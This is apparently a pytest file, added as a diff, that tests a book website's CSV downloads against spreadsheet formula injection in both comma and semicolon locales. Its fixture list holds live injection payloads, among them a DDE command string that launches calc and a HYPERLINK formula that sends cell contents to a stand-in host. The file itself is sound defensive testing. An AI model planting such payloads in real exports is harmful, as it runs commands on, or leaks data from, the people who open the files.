@@ -1,0 +1,100 @@
+"""Every CSV the book serves is safe in a spreadsheet in any locale.
+
+A Danish spreadsheet splits a CSV on semicolons, an English one on commas, and a careless import on both, quotes
+or not. Each download is read here all four ways (the csv module with either delimiter, and a plain split on
+either), and no cell may begin like a formula (=, +, -, @, tab, carriage return).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+from urllib.parse import unquote
+
+import pytest
+
+from kulturensrige.book.extension import _publish_tables
+from kulturensrige.data.schema import TABLES
+from kulturensrige.words import FORMULA_START, csv_text, spreadsheet_csv
+from support.checks import each
+
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://eksempel.invalid/?x="&A1,"klik")',
+    "Sjælland,=1+2,x",
+    "a;+1;b",
+    "Køge;@SUM(A1:A9)",
+    "-2+3",
+    "\tfane",
+    "\rvogn",
+    'sagde "ja",=1',
+    "ren tekst, med komma; og semikolon",
+]
+CSV_HREF = re.compile(r'href="data:text/csv;charset=utf-8,([^"]*)"')
+
+
+def cells_every_way(text: str) -> list[str]:
+    """Every cell a spreadsheet could make of the text: csv with ',' or ';', and a plain split on either."""
+    text = text.removeprefix("\ufeff")
+    cells = []
+    for delimiter in ",;":
+        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
+        cells += [part.lstrip('"') for line in re.split(r"\r\n|\n", text) for part in line.split(delimiter)]
+    return cells
+
+
+def formulas(text: str) -> list[str]:
+    return [cell for cell in cells_every_way(text) if cell.startswith(FORMULA_START)]
+
+
+def test_the_test_sees_a_formula_in_an_unguarded_csv():
+    """The reading itself works: a plain semicolon CSV of the same cells is caught."""
+    plain = "\r\n".join(";".join(f'"{v}"' if "," in v else v for v in pair) for pair in zip(HOSTILE, HOSTILE, strict=True))
+    assert formulas(plain)
+
+
+def test_a_table_download_holds_no_formula_read_with_either_delimiter():
+    text = csv_text(["Kolonne", "Anden"], [[value, value] for value in HOSTILE])
+    assert formulas(text) == []
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    assert len(rows) == len(HOSTILE) + 1 and all(len(row) == 2 for row in rows), "comma-separated, one cell per value"
+    assert [row[0].replace("'", "") for row in rows[1:]] == [v.replace("'", "") for v in HOSTILE], "only apostrophes added"
+
+
+def test_the_published_data_tables_are_comma_separated_and_guarded(tmp_path: Path):
+    """The tables the pages link to ("Sådan er siden lavet"), from a data folder with formulas in its texts."""
+    folder = tmp_path / "data"
+    folder.mkdir()
+    for table in TABLES.values():
+        values = [HOSTILE[i % len(HOSTILE)] for i in range(len(table.columns))]
+        buffer = io.StringIO(newline="")
+        csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([table.columns, values])  # as data/ has a lone CR
+        (folder / table.file).write_text(buffer.getvalue(), encoding="utf-8")
+    _publish_tables(folder, tmp_path / "published")
+    for table in each(TABLES.values()):
+        text = (tmp_path / "published" / table.file).read_text(encoding="utf-8")
+        assert formulas(text) == [], table.file
+        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        assert rows[0] == table.columns and len(rows[1]) == len(table.columns), table.file
+
+
+def test_spreadsheet_csv_keeps_every_row_and_cell():
+    assert spreadsheet_csv('a,b\n"x\ny",=1\n') == '\ufeffa,b\r\n"x\ny",\'=1\r\n'
+
+
+@pytest.mark.browser
+def test_every_download_in_the_built_book_holds_no_formula(built_site: Path):
+    """The table downloads in the pages (data: addresses) and the data tables beside them, as built."""
+    downloads = 0
+    for page in built_site.rglob("*.html"):
+        for found in CSV_HREF.finditer(page.read_text(encoding="utf-8")):
+            text = unquote(found.group(1))
+            assert formulas(text) == [], page
+            assert text.splitlines()[0].count(",") >= 1, f"{page}: not comma-separated"
+            downloads += 1
+    for path in (built_site / "_static" / "data").glob("*.csv"):
+        assert formulas(path.read_text(encoding="utf-8")) == [], path
+        downloads += 1
+    assert downloads > len(TABLES)
